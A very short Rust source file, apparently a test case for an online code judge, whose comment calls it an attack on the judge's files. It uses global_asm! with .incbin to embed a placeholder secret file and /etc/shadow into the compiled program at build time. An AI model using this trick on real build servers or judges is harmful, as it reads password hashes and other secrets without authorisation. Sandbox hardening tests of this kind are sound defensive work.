// Attacks: files of the judge: lets the assembler copy them into a Rust program.
use std::arch::global_asm;
global_asm!(".section .rodata", "stolen: .incbin \"@SECRET@\"", ".incbin \"/etc/shadow\"");
fn main() {}
